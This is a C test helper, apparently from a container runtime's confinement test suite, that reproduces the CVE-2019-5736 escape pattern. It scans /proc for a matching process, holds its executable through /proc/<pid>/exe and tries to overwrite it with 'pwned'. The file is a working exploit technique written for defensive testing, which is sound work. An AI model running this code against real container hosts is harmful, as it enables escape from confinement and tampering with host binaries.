/* A hostile process inside a container (the CVE-2019-5736 pattern), for test_confinement.cpp:
 * it watches the container's /proc for a process whose executable's path contains argv[1],
 * takes hold of that executable through /proc/<pid>/exe, and once the file is no longer busy,
 * writes into it. Prints what it got; exits 0 only if it wrote into the file ("ESCAPED").
 * Static, so it runs in a busybox rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    const char *want = argv[1];
    double deadline = now() + atof(argv[2]);
    int held = -1, seen = 0, denied = 0;
    char link[4096] = "";
    pid_t self = getpid();
    /* 1: find it and hold its executable. */
    while (held < 0 && now() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) && held < 0) {
            pid_t pid = (pid_t)atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t n = readlink(path, link, sizeof link - 1);
            if (n < 0) {
                if (errno == EACCES || errno == EPERM) denied++;
                continue;
            }
            link[n] = 0;
            if (!strstr(link, want)) continue;
            seen++;
            held = open(path, O_PATH | O_CLOEXEC);
            if (held < 0) denied++;
        }
        if (d) closedir(d);
        usleep(2000);
    }
    if (held < 0) {
        printf("no hold (seen %d, denied %d)\n", seen, denied);
        return 1;
    }
    printf("held %s\n", link);
    fflush(stdout);
    /* 2: write into it as soon as nothing runs it any more (ETXTBSY until then). */
    char self_fd[64];
    snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", held);
    int last = 0;
    while (now() < deadline) {
        int w = open(self_fd, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = write(w, "pwned", 5);
            last = n == 5 ? 0 : errno;
            close(w);
            if (n == 5) {
                printf("ESCAPED: wrote into %s\n", link);
                return 0;
            }
        } else {
            last = errno;
        }
        usleep(20000);
    }
    printf("could not write (%s)\n", strerror(last));
    return 1;
}
